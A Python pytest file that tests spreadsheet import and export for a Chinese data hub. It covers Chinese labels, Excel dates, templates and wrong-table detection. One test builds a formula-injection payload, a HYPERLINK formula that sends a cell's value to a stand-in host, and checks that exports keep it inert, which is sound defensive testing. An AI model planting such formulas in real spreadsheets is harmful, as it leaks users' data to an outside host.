"""Sheets as officials fill them in Excel or WPS: Chinese labels for choices (来源 企业申报), periods that Excel
turned into dates, codes typed as numbers, Chinese table names, templates that keep codes as text and show an
example, and a file uploaded to the wrong table named for what it is."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import xlsxwriter

from silian.domain.errors import ImportRejected
from silian.services.imports import export_table, import_file, template_for
from silian.settings import Settings
from silian.storage import repository as repo
from silian.storage.database import Database

SETTINGS = Settings()
REGIONS = "区划代码,名称,层级,上级区划代码\n410100,郑州市,市,\n410105,金水区,县,410100\n"
SCHOOLS = "学校代码,学校名称,办学层次,举办性质,所在县市区代码\n9410100001,郑州市第一中等专业学校,中职,公办,410105\n"


@pytest.fixture
def hub(db: Database, tmp_path: Path) -> Database:
    (tmp_path / "regions.csv").write_text(REGIONS, encoding="utf-8")
    import_file(db, "行政区划", tmp_path / "regions.csv", SETTINGS)  # Chinese table name
    return db


def _demand_sheet(path: Path) -> Path:
    """人才需求 as an official types it: Chinese 来源, 时期 typed 2024-06 (Excel makes it a date), region code a number."""
    workbook = xlsxwriter.Workbook(str(path))
    sheet = workbook.add_worksheet("数据")
    sheet.write_row(0, 0, ["来源", "区划代码", "时期", "职业代码", "技能等级", "需求人数"])
    month = workbook.add_format({"num_format": "yyyy-mm"})
    rows = [("企业申报", datetime(2024, 6, 1)), ("招聘岗位", datetime(2024, 7, 15)), ("统计推算", datetime(2023, 1, 1))]
    for r, (source, when) in enumerate(rows, start=1):
        sheet.write_string(r, 0, source)
        sheet.write_number(r, 1, 410105)
        sheet.write_datetime(r, 2, when, month)
        sheet.write_string(r, 3, "2-02-07-07")
        sheet.write_string(r, 4, "不限")
        sheet.write_number(r, 5, 10 * r)
    workbook.close()
    return path


def test_chinese_labels_and_excel_dates_import(hub: Database, tmp_path: Path) -> None:
    outcome = import_file(hub, "人才需求", _demand_sheet(tmp_path / "需求.xlsx"), SETTINGS)
    assert outcome.rows == 3
    with hub.engine.connect() as conn:
        stored = repo.read_table(conn, "demand").sort("count")
    assert stored["source"].to_list() == ["declared", "posting", "statistics"]
    assert stored["period"].to_list() == ["2024-06", "2024-07", "2023-01"]
    assert stored["region_code"].to_list() == ["410105"] * 3
    export = tmp_path / "out.csv"  # exports show the Chinese label, and re-import unchanged
    export_table(hub, "demand", export)
    assert "企业申报" in export.read_text(encoding="utf-8-sig") and "declared" not in export.read_text(encoding="utf-8-sig")
    again = import_file(hub, "demand", export, SETTINGS)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 3)


def test_an_unknown_choice_names_the_chinese_labels(hub: Database, tmp_path: Path) -> None:
    (tmp_path / "d.csv").write_text("来源,区划代码,时期,职业代码,技能等级,需求人数\n问卷,410105,2024,2-02-07-07,不限,5\n",
                                    encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        import_file(hub, "demand", tmp_path / "d.csv", SETTINGS)
    problem = info.value.problems[0]
    assert problem.value == "问卷" and "企业申报" in problem.fix and "declared" not in problem.fix


def test_a_file_for_another_table_is_named_for_what_it_is(hub: Database, tmp_path: Path) -> None:
    (tmp_path / "schools.csv").write_text(SCHOOLS, encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        import_file(hub, "enterprises", tmp_path / "schools.csv", SETTINGS)
    assert "这看起来是“学校”表的文件" in info.value.problems[0].fix


def test_the_template_keeps_codes_as_text_offers_chinese_choices_and_an_example(tmp_path: Path) -> None:
    path = tmp_path / "企业.xlsx"
    template_for("企业", path)  # `silian template 企业`
    book = openpyxl.load_workbook(path)
    data, notes = book["数据"], book["说明"]
    headers = [c.value for c in data[1]]
    assert headers[0] == "统一社会信用代码"
    assert data.column_dimensions["A"].number_format == "@" or data["A2"].number_format == "@"
    rows = [[c.value for c in row] for row in notes.iter_rows()]
    assert rows[0][6] == "示例"
    example = rows[-1]
    assert example[0] and len(example[0]) == 18  # a valid credit code (check character computed)
    demand = tmp_path / "需求.xlsx"
    template_for("人才需求", demand)
    validations = openpyxl.load_workbook(demand)["数据"].data_validations.dataValidation
    assert any("企业申报" in (v.formula1 or "") for v in validations)


def test_every_template_column_has_an_example_and_code_examples_are_real() -> None:
    from silian.catalog import get_catalog
    from silian.domain.credit_code import credit_code_problem
    from silian.domain.tables import HUB_TABLES
    from silian.ingest.spreadsheets import CHECK_EXAMPLES, example_value

    for spec in HUB_TABLES.values():
        for field in spec.fields:
            value = example_value(field)
            assert value, (spec.name, field.name)
            if field.choices:
                assert value in [field.label(c) for c in field.choices], (spec.name, field.name)
    catalog = get_catalog()
    assert CHECK_EXAMPLES["major"] in set(catalog.majors("current")["major_code"].to_list())
    assert CHECK_EXAMPLES["occupation"] in set(catalog.occupations["code"].to_list())
    assert CHECK_EXAMPLES["industry"] in set(catalog.industries["code"].to_list())
    assert credit_code_problem(CHECK_EXAMPLES["credit_code"]) is None
    assert pl.Series([CHECK_EXAMPLES["region"]]).str.contains(r"^\d{6}$").all()


def test_exports_never_carry_a_live_formula_and_round_trip(hub: Database, tmp_path: Path) -> None:
    """A school named like a formula: the .xlsx cell is a string, the CSV cell inert ('=…), and both re-import as
    the same name."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    quoted = '"' + evil.replace('"', '""') + '"'
    (tmp_path / "s.csv").write_text(f"学校代码,学校名称,办学层次,举办性质,所在县市区代码\n9410100001,{quoted},中职,公办,410105\n",
                                    encoding="utf-8")
    import_file(hub, "学校", tmp_path / "s.csv", SETTINGS)
    export_table(hub, "institutions", tmp_path / "out.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "out.xlsx")["数据"]["B2"]
    assert cell.data_type == "s" and cell.value == evil
    export_table(hub, "institutions", tmp_path / "out.csv")
    assert "'=HYPERLINK" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    for name in ("out.xlsx", "out.csv"):
        again = import_file(hub, "institutions", tmp_path / name, SETTINGS)
        assert (again.inserted, again.updated, again.unchanged) == (0, 0, 1), name
